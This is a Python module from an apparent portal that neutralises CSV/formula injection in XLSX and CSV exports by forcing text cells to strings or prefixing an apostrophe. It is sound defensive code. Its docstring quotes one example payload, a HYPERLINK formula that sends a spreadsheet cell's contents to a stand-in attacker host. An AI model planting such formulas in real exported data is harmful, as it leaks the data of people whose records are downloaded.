"""Spreadsheets the portal writes (XLSX and CSV exports): text from users never becomes a formula.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula by
Excel and LibreOffice ("CSV injection"): an applicant named ``=HYPERLINK("http://evil.example/?"&C5,"…")``
would send the row of the officer's download to a stranger. Every export goes through here:

- XLSX: every text cell is stored as a string (``data_type="s"``), never as a formula, whatever it starts
  with; it shows exactly what was typed.
- CSV: such text gets a leading apostrophe (the spreadsheet programs' "this is text" mark);
  ``from_csv_text`` takes it off again when the portal reads its own CSV back.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value) -> str:
    """The CSV text of ``value``, with an apostrophe before text a spreadsheet would run as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def from_csv_text(text: str) -> str:
    """A cell of a CSV file the portal wrote, as it was before ``csv_text`` marked it."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def write_csv_rows(handle, rows) -> None:
    """Write ``rows`` (iterables of values) to an open text file as CSV, every cell through ``csv_text``."""
    writer = csv.writer(handle)
    for row in rows:
        writer.writerow([csv_text(value) for value in row])


def text_cell(cell, value):
    """Put ``value`` in an openpyxl cell; text stays text (never a formula). Returns the cell."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def append_row(sheet, values) -> None:
    """Append ``values`` as a row of ``sheet`` (an openpyxl worksheet, write-only or not), text as text."""
    from openpyxl.cell import WriteOnlyCell  # a cell made for ``sheet``, which both kinds of sheet append

    sheet.append([text_cell(WriteOnlyCell(sheet), value) for value in values])
